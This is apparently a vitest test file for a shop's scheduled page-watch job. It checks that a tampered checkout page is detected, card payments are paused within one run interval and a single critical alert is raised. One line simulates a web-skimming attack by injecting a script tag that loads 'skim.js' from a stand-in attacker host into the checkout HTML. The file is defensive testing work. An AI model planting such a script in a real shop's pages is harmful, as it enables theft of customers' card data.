// The scheduled page watch end to end: a baseline on first use, silence on an untouched shop,
// and a tampered checkout detected at the next run with card payments paused — the time from
// tampering to pause measured on the shop's clock.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DATABASES } from '../../test/support/databases.ts';
import { startTestShop, type TestShop } from '../../test/support/test-shop.ts';
import { injectFetch } from './inject-fetch.ts';
import type { PageFetch } from './walk-to-payment.ts';
import { activePauses, isCardPaymentPaused } from '../shop-pause/shop-pause.ts';
import { listOpenAlerts } from '../alerts/raise-alert.ts';

const INTERVAL_MS = 60_000;

for (const database of DATABASES) {
  describe(`the page-watch job on ${database.name}`, () => {
    let shop: TestShop;
    let now = new Date('2026-12-01T01:00:30Z');
    let tamper: ((path: string, html: string) => string) | undefined;
    beforeAll(async () => {
      let inner: PageFetch | undefined;
      let shopReady!: () => void;
      const ready = new Promise<void>((resolve) => { shopReady = resolve; });
      // The intruder's change, seen as a customer would see it: the served checkout page altered.
      const fetchThroughTamper: PageFetch = async (url, init) => {
        await ready; // the start-up run begins inside startShop, before `inner` exists
        const res = await inner!(url, init);
        const path = new URL(url).pathname;
        if (!tamper || !(res.headers.get('content-type') ?? '').startsWith('text/html')) return res;
        return new Response(tamper(path, await res.text()), { status: res.status, headers: res.headers });
      };
      shop = await startTestShop(database, { clock: () => now, pageWatch: { fetch: fetchThroughTamper } });
      inner = injectFetch(shop.app, shop.config.publicUrl);
      shopReady();
      await shop.jobs.settled();
    });
    afterAll(async () => { await shop?.dispose(); });

    const advanceTo = async (t: Date) => { now = t; await shop.jobs.runDue(); };

    it('records a trust-on-first-use baseline and stays silent over 30 untouched runs', async () => {
      const runs = () => shop.db.db.selectFrom('page_watch_runs' as never).select(['outcome' as never]).execute() as Promise<{ outcome: string }[]>;
      expect((await runs()).map((r) => r.outcome)).toEqual(['baseline-recorded']);
      for (let i = 1; i <= 30; i++) await advanceTo(new Date(Date.parse('2026-12-01T01:00:00Z') + i * INTERVAL_MS + 1));
      const outcomes = (await runs()).map((r) => r.outcome);
      expect(outcomes.filter((o) => o === 'match')).toHaveLength(30);
      expect(await listOpenAlerts(shop.db.db)).toEqual([]);
      expect(await isCardPaymentPaused(shop.db.db)).toBe(false);
    });

    it('detects a script added to the checkout page at the next run and pauses card payments within the interval', async () => {
      const tamperedAt = new Date(now.getTime() + 5_000);
      now = tamperedAt;
      tamper = (path, html) => (path === '/checkout' ? html.replace('</body>', '<script src="https://cdn.evil.example/skim.js"></script></body>') : html);
      await advanceTo(new Date(Math.floor(tamperedAt.getTime() / INTERVAL_MS + 1) * INTERVAL_MS + 1));
      const pause = (await activePauses(shop.db.db)).card_payments;
      expect(pause).toBeDefined();
      const elapsedMs = Date.parse(pause!.paused_at) - tamperedAt.getTime();
      console.log(`page watch on ${database.name}: tampering to pause ${elapsedMs / 1000} s on the shop's clock (interval ${INTERVAL_MS / 1000} s)`);
      expect(elapsedMs).toBeGreaterThan(0);
      expect(elapsedMs).toBeLessThanOrEqual(INTERVAL_MS);
      const [alert] = await listOpenAlerts(shop.db.db);
      expect(alert).toMatchObject({ kind: 'page_watch.difference', severity: 'critical' });
      expect(alert!.summary).toContain('cdn.evil.example/skim.js');
      // The next runs see the same tamper: counted on the open alert, not a new one.
      await advanceTo(new Date(now.getTime() + INTERVAL_MS));
      const open = await listOpenAlerts(shop.db.db);
      expect(open).toHaveLength(1);
      expect(open[0]!.occurrences).toBe(2);
    });
  });
}
